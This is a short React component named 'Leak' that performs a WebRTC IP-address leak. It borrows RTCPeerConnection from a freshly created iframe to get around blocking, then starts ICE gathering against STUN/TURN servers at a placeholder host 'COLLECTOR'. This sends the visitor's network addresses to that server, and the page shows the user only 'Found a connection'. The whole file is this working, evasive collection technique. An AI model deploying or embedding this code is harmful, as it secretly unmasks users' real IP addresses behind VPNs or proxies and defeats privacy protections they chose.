import { useEffect, useState } from "react";

export default function Leak() {
  const [found, setFound] = useState("nothing");
  useEffect(() => {
    const nested = document.createElement("iframe");
    document.body.append(nested);
    let borrowed: unknown;
    try {
      borrowed = (nested.contentWindow as any)?.RTCPeerConnection;
    } catch {
      // Another origin.
    }
    const Connection = (window as any).RTCPeerConnection ?? (window as any).webkitRTCPeerConnection ?? borrowed;
    if (!Connection) return;
    setFound("a connection");
    const peer = new Connection({ iceServers: [{ urls: ["stun:COLLECTOR", "turn:COLLECTOR?transport=tcp"], username: "a", credential: "b" }] });
    peer.createDataChannel("leak");
    peer.createOffer().then((offer: unknown) => peer.setLocalDescription(offer));
  }, []);
  return <p>Found {found}</p>;
}
